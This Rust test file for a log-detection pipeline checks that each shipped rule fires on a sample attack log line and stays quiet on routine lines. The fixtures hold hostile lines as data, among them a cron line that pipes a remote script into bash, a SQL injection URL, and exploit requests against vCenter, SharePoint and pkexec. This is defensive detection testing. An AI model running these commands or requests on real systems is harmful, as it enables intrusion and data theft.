//! From the raw line to the hit: every shipped rule that waits for a decoder gets a line as its source
//! writes it, and a harmless line of the same log hits nothing to look at.
#![expect(clippy::unwrap_used, reason = "a test that cannot go on should stop")]

use std::collections::BTreeMap;
use std::sync::Arc;

use agent_inputs::{Format, Item, Line, Lines, SourceMeta};
use agent_pipeline::{AgentFacts, Pipeline, Scratch};
use rules_event::Level;
use rules_matcher::RuleSet;
use rules_sigma::Document;

/// A rule's name, a log's path, a line of that log.
const HITS: &[(&str, &str, &str)] = &[
    (
        "esxi_account_locked",
        "/var/log/esxi.log",
        "<14>2026-11-21T01:30:00Z esxi01 vobd: [esx.audit.account.locked] Remote access for ESXi local user account 'root' has been locked for 900 seconds after 5 failed login attempts.",
    ),
    (
        "esxi_login_failed",
        "/var/log/esxi.log",
        "<166>2026-11-21T01:30:00Z esxi01 Hostd: warning hostd[1] [Originator@6876 sub=Default] Rejected password for user root from 203.0.113.5",
    ),
    (
        "esxi_protection_lowered",
        "/var/log/esxi.log",
        "<14>2026-11-21T01:30:00Z esxi01 shell[2100]: [root]: esxcli software acceptance set --level=CommunitySupported",
    ),
    (
        "esxi_shell_enabled",
        "/var/log/esxi.log",
        "2026-11-21T01:30:00.000Z In(14) vobd[2097637]: [UserLevelCorrelator] 12us: [esx.audit.ssh.enabled] SSH access has been enabled.",
    ),
    (
        "esxi_vm_kill_command",
        "/var/log/esxi.log",
        "<14>2026-11-21T01:30:00Z esxi01 shell[2100]: [root]: esxcli vm process kill --type=force --world-id=523001",
    ),
    (
        "esxi_vm_power_off",
        "/var/log/esxi.log",
        "<166>2026-11-21T01:30:00Z esxi01 Hostd: info hostd[1] [Originator@6876 sub=Vimsvc.ha-eventmgr] Event 512 : db01 on esxi01 in ha-datacenter is powered off",
    ),
    (
        "vcenter_exploit_in_its_log",
        "/var/log/vcenter.log",
        "Nov 21 08:30:00 vc01 rhttpproxy: 203.0.113.5 - - \"POST /ui/vropspluginui/rest/services/uploadova HTTP/1.1\" 200 7",
    ),
    (
        "vcenter_known_exploits",
        "/var/log/nginx/access.log",
        "203.0.113.5 - - [21/Nov/2026:08:30:00 +0700] \"POST /ui/vropspluginui/rest/services/uploadova HTTP/1.1\" 200 7",
    ),
    (
        "waf_attack",
        "/var/log/nginx/error.log",
        "2026/11/21 08:30:00 [error] 12#34: *56 [client 203.0.113.5] ModSecurity: Access denied with code 403 (phase 2). [id \"949110\"] [msg \"Inbound Anomaly Score Exceeded (Total Score: 15)\"] [tag \"attack-generic\"], client: 203.0.113.5, server: x, request: \"GET /a HTTP/1.1\", host: \"x\"",
    ),
    (
        "waf_attack",
        "/var/log/apache2/error.log",
        "[Sat Nov 21 08:30:00.123456 2026] [:error] [pid 12] [client 203.0.113.5:4711] [client 203.0.113.5] ModSecurity: Warning. detected SQLi using libinjection [id \"942100\"] [msg \"SQL Injection Attack Detected via libinjection\"] [tag \"attack-sqli\"]",
    ),
    (
        "firewall_listed_destination",
        "/var/log/fw.log",
        "<185>date=2026-11-21 time=08:30:04 devname=\"FG\" devid=\"FG1\" type=\"utm\" subtype=\"ips\" srcip=10.20.5.9 srcport=50000 dstip=198.51.100.67 dstport=80 proto=6 action=\"dropped\" attack=\"Botnet.XYZ\"",
    ),
    (
        "firewall_listed_destination",
        "/var/log/fw.log",
        "Nov 21 08:30:00 pa01 1,2026/11/21 08:30:00,0012,THREAT,spyware,2561,2026/11/21 08:30:00,10.0.0.9,198.51.100.8,0.0.0.0,0.0.0.0,ra ngoai,,,dns,vsys1,trust,untrust,ethernet1/2,ethernet1/1,log,2026/11/21 08:30:00,1,1,50000,53,0,0,0x2000,udp,drop,x,spyware(1),any,high,client-to-server,1",
    ),
    (
        "vpn_admin_login_outside",
        "/var/log/fw.log",
        "<189>date=2026-11-21 time=08:30:02 devname=\"FG\" devid=\"FG1\" type=\"event\" subtype=\"vpn\" action=\"tunnel-up\" tunneltype=\"ssl-tunnel\" remip=203.0.113.8 user=\"admin\"",
    ),
    (
        "vpn_admin_login_outside",
        "/var/log/fw.log",
        "Nov 21 08:30:00 pa01 1,2026/11/21 08:30:00,0012,GLOBALPROTECT,0,2561,2026/11/21 08:30:00,vsys1,gateway-auth,login,LDAP,,lan,NL,PC01,198.51.100.9,0.0.0.0,0.0.0.0,0.0.0.0,id,sn,6.1,Windows,10,1,,,ok,success,,0,,0,gp",
    ),
    (
        "vpn_admin_login_outside",
        "/var/log/fw.log",
        "<166>Nov 21 2026 08:30:00: %ASA-6-113039: Group <VPN> User <admin> IP <203.0.113.8> AnyConnect parent session started.",
    ),
    (
        "transfer_outside",
        "/var/log/fw.log",
        "<189>date=2026-11-21 time=08:30:00 devname=\"FG\" devid=\"FG1\" type=\"traffic\" subtype=\"forward\" srcip=10.30.1.5 srcport=51234 dstip=198.51.100.8 dstport=443 proto=6 action=\"close\" sentbyte=2097152 rcvdbyte=12000",
    ),
    (
        "large_transfer_outside",
        "/opt/zeek/logs/current/conn.log",
        "{\"_path\":\"conn\",\"ts\":1795225800.1,\"uid\":\"C1\",\"id.orig_h\":\"10.30.1.5\",\"id.orig_p\":50000,\"id.resp_h\":\"198.51.100.8\",\"id.resp_p\":443,\"proto\":\"tcp\",\"orig_bytes\":629145600,\"resp_bytes\":1120}",
    ),
    (
        "large_transfer_outside",
        "/var/log/fw.log",
        "<30>device=\"SFW\" date=2026-11-21 time=08:30:00 timezone=\"+07\" device_name=\"XG\" log_type=\"Firewall\" log_component=\"Firewall Rule\" log_subtype=\"Allowed\" status=\"Allow\" src_ip=10.30.1.5 src_port=1 dst_ip=198.51.100.8 dst_port=443 protocol=\"TCP\" sent_bytes=629145600 recv_bytes=5",
    ),
    (
        "zimbra_forward_or_filter",
        "/var/log/zimbra.log",
        "Nov 21 08:30:00 mail01 zimbra: soap - ModifyPrefsRequest name=lan@tinh.gov.vn zimbraPrefMailForwardingAddress=abc@gmail.com",
    ),
    (
        "mail_login_failed",
        "/var/log/mail.log",
        "Nov 21 08:30:00 mail01 dovecot: imap-login: Disconnected (auth failed, 3 attempts in 12 secs): user=<lan>, method=PLAIN, rip=203.0.113.7, lip=10.0.0.9",
    ),
    (
        "mail_login_failed",
        "/var/log/mail.log",
        "Nov 21 08:30:00 mail01 postfix/smtpd[12]: warning: unknown[203.0.113.7]: SASL LOGIN authentication failed: UGFzc3dvcmQ6",
    ),
    (
        "mail_login_failed",
        "/opt/zimbra/log/audit.log",
        "2026-11-21 08:30:00,123 WARN  [qtp1-2] [name=lan@tinh.gov.vn;oip=203.0.113.7;ua=x;] security - cmd=Auth; account=lan@tinh.gov.vn; protocol=soap; error=authentication failed for [lan@tinh.gov.vn], invalid password;",
    ),
    (
        "cleartext_login_service",
        "/var/log/auth.log",
        "Nov 21 08:30:00 ftp01 vsftpd[2]: [lan] OK LOGIN: Client \"203.0.113.7\"",
    ),
    (
        "cleartext_login_service",
        "/var/log/vsftpd.log",
        "Sat Nov 21 08:30:00 2026 [pid 2] [lan] OK LOGIN: Client \"203.0.113.7\"",
    ),
    (
        "cleartext_login_service",
        "/var/log/mail.log",
        "Nov 21 08:30:00 mail01 dovecot: imap-login: Login: user=<lan>, method=PLAIN, rip=203.0.113.7, lip=10.0.0.9, mpid=77",
    ),
    (
        "cleartext_login",
        "/var/log/httpd/u_ex261121.log",
        "2026-11-21 01:30:00 10.0.0.9 POST /dang-nhap.aspx - 80 - 203.0.113.5 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 302 0 0 15",
    ),
    (
        "security_service_stopped_unit",
        "/var/log/syslog",
        "Nov 21 08:30:00 web01 systemd[1]: Stopped auditd.service - Security Auditing Service.",
    ),
    (
        "clock_stepped",
        "/var/log/syslog",
        "Nov 21 08:30:00 web01 chronyd[12]: System clock wrong by 12.502 seconds",
    ),
    (
        "pkexec_exploit",
        "/var/log/auth.log",
        "Nov 21 08:30:00 web01 pkexec[12]: lan: The value for the SHELL variable was not found the /etc/shells file [USER=root] [TTY=/dev/pts/3] [CWD=/tmp] [COMMAND=GCONV_PATH=./x]",
    ),
    (
        "new_admin_account",
        "/var/log/auth.log",
        "Nov 21 08:30:00 web01 usermod[12]: add 'hotro' to group 'sudo'",
    ),
    (
        "cron_download",
        "/var/log/syslog",
        "Nov 21 08:30:00 web01 CRON[12]: (www-data) CMD (curl -fsSL http://198.51.100.8/ap.sh | bash)",
    ),
    (
        "sharepoint_toolshell",
        "C:/inetpub/u_ex261121.log",
        "2026-11-21 01:30:00 10.0.0.9 POST /_layouts/15/ToolPane.aspx DisplayMode=Edit&a=/ToolPane.aspx 443 - 203.0.113.5 Mozilla/5.0+(Windows+NT+10.0) /_layouts/SignOut.aspx 200 0 0 15",
    ),
    (
        "web_sql_injection",
        "/var/log/nginx/access.json",
        "{\"time_iso8601\":\"2026-11-21T08:30:00+07:00\",\"remote_addr\":\"203.0.113.5\",\"request\":\"GET /a.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users-- HTTP/1.1\",\"status\":\"200\",\"body_bytes_sent\":\"5\",\"http_user_agent\":\"x\"}",
    ),
    (
        "scanner_user_agent",
        "/opt/tomcat/logs/localhost_access_log.txt",
        "203.0.113.5 - - [21/Nov/2026:08:30:00 +0700] \"GET / HTTP/1.1\" 404 5 \"-\" \"sqlmap/1.8#stable (https://sqlmap.org)\"",
    ),
    (
        "tomcat_manager_refused",
        "/opt/tomcat/logs/localhost_access_log.txt",
        "203.0.113.5 - - [21/Nov/2026:08:30:00 +0700] \"GET /manager/html HTTP/1.1\" 401 2499",
    ),
    (
        "ssh_failed_login",
        "/var/log/auth.log",
        "Nov 21 08:30:00 web01 sshd-session[1571]: Failed password for root from 203.0.113.5 port 56502 ssh2",
    ),
    (
        "database_error_in_log",
        "/var/log/app.log",
        "2026-11-21 08:30:00 PHP Warning: mysqli_query(): You have an error in your SQL syntax; check the manual near '''' at line 1",
    ),
];

/// A log's path and a line that is daily business there.
const QUIET: &[(&str, &str)] = &[
    (
        "/var/log/esxi.log",
        "<166>2026-11-21T01:30:00Z esxi01 Hostd: info hostd[1] [Originator@6876 sub=Vimsvc] Event 513 : db01 on esxi01 in ha-datacenter is powered on",
    ),
    (
        "/var/log/vcenter.log",
        "Nov 21 08:30:00 vc01 rhttpproxy: 10.20.1.5 - - \"GET /ui/ HTTP/1.1\" 200 812",
    ),
    (
        "/var/log/fw.log",
        "<189>date=2026-11-21 time=08:30:00 devname=\"FG\" devid=\"FG1\" type=\"traffic\" subtype=\"forward\" srcip=10.30.1.5 srcport=51234 dstip=198.51.100.8 dstport=443 proto=6 action=\"close\" sentbyte=900 rcvdbyte=12000",
    ),
    (
        "/var/log/fw.log",
        "<189>date=2026-11-21 time=08:30:03 devname=\"FG\" devid=\"FG1\" type=\"event\" subtype=\"vpn\" action=\"ssl-login-fail\" tunneltype=\"ssl-web\" remip=203.0.113.9 user=\"admin\"",
    ),
    (
        "/var/log/fw.log",
        "<166>Nov 21 2026 08:30:00 asa01 : %ASA-4-106023: Deny tcp src outside:203.0.113.5/4711 dst inside:10.0.0.9/22 by access-group \"outside_in\" [0x0, 0x0]",
    ),
    (
        "/var/log/fw.log",
        "<30>firewall,info drop input: in:ether1 out:(unknown 0), proto TCP (SYN), 203.0.113.5:4711->192.0.2.1:22, len 40",
    ),
    (
        "/var/log/mail.log",
        "Nov 21 08:30:00 mail01 dovecot: imap-login: Login: user=<lan>, method=PLAIN, rip=203.0.113.7, lip=10.0.0.9, mpid=77, TLS, session=<a>",
    ),
    (
        "/var/log/mysql/error.log",
        "2026-11-21T01:30:00.123456Z 8 [Note] Access denied for user 'lan'@'10.0.0.5' (using password: YES)",
    ),
    (
        "/var/log/nginx/error.log",
        "2026/11/21 08:30:00 [error] 12#34: *56 open() \"/srv/www/favicon.ico\" failed (2: No such file or directory), client: 203.0.113.5, server: x, request: \"GET /favicon.ico HTTP/1.1\", host: \"x\"",
    ),
    (
        "/var/log/squid/access.log",
        "1795225800.123    456 10.0.0.5 TCP_MISS/200 1234 GET http://example.org/a?b lan HIER_DIRECT/198.51.100.8 text/html",
    ),
    (
        "/opt/zeek/logs/current/dns.log",
        "{\"_path\":\"dns\",\"ts\":1795225800.1,\"uid\":\"C1\",\"id.orig_h\":\"10.30.1.5\",\"id.orig_p\":50000,\"id.resp_h\":\"10.0.0.1\",\"id.resp_p\":53,\"proto\":\"udp\",\"query\":\"example.org\",\"qtype_name\":\"A\"}",
    ),
    (
        "/var/log/syslog",
        "Nov 21 08:30:00 web01 kernel: [1.0] [UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.5 DST=10.0.0.9 LEN=40 PROTO=TCP SPT=4711 DPT=23",
    ),
    (
        "C:/inetpub/u_ex261121.log",
        "2026-11-21 01:30:00 10.0.0.9 GET /Default.aspx id=1 443 - 203.0.113.5 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 200 0 0 15",
    ),
];

/// The pack, and the name and level of each rule by its id.
fn pack() -> (Pipeline, BTreeMap<String, (String, Level)>) {
    let mut rules = Vec::new();
    for (file, text) in rules_pack::shipped() {
        let parsed = rules_sigma::parse_file(file, text);
        rules.extend(parsed.documents.into_iter().filter_map(|document| match document {
            Document::Rule(rule) => Some(rule),
            Document::Correlation(_) | Document::Filter(_) => None,
        }));
    }
    let (set, _) = RuleSet::compile(rules);
    let names = set.rules().iter().enumerate().map(|(place, rule)| {
        let name = rule.name.clone().unwrap_or_else(|| rule.title.clone());
        (set.matcher().id(place).to_owned(), (name, set.matcher().level(place)))
    });
    let names = names.collect();
    let facts = AgentFacts {
        agent_id: [1; 16],
        agent_id_text: "01".repeat(16),
        host: "web01".to_owned(),
        organization: None,
        system: None,
        timezone: agent_pipeline::timezone("+07:00").unwrap(),
    };
    (Pipeline::new(facts, Some(Arc::clone(set.matcher()))), names)
}

/// Ids of the rules that hit a line.
fn hits(pipeline: &Pipeline, path: &str, text: &str) -> (Vec<String>, String) {
    let source = Arc::new(SourceMeta {
        key: path.to_owned(),
        path: Some(path.to_owned()),
        format: Format::Auto,
        dataset: None,
        ..SourceMeta::default()
    });
    let mut lines = Lines::new(source, "2026-11-21T08:30:00Z".parse().unwrap());
    lines.push(Line { offset: 0, bytes: text.as_bytes(), truncated: false });
    let mut found = (Vec::new(), String::new());
    let done: Result<(), ()> =
        pipeline.process(Item::Lines(lines), &mut Scratch::default(), |processed| {
            found.0 = processed.event.rule_ids().map(str::to_owned).collect();
            found.1 = format!("{:?}", processed.event);
            Ok(())
        });
    done.unwrap();
    found
}

#[test]
fn a_raw_line_hits_the_rule_that_waits_for_it() {
    let (pipeline, names) = pack();
    let mut silent = Vec::new();
    for (rule, path, line) in HITS {
        let (ids, event) = hits(&pipeline, path, line);
        let found: Vec<&str> = ids.iter().map(|id| names[id].0.as_str()).collect();
        if !found.contains(rule) {
            silent.push(format!("{rule} is silent, {found:?} hit: {line}\n{event}"));
        }
    }
    assert!(silent.is_empty(), "{}", silent.join("\n\n"));
}

#[test]
fn daily_business_hits_nothing_to_look_at() {
    let (pipeline, names) = pack();
    for (path, line) in QUIET {
        let (ids, event) = hits(&pipeline, path, line);
        let loud: Vec<_> = ids.iter().filter(|id| names[*id].1 >= Level::Medium).collect();
        assert!(loud.is_empty(), "{:?} hit: {line}\n{event}", names[loud[0]]);
    }
}
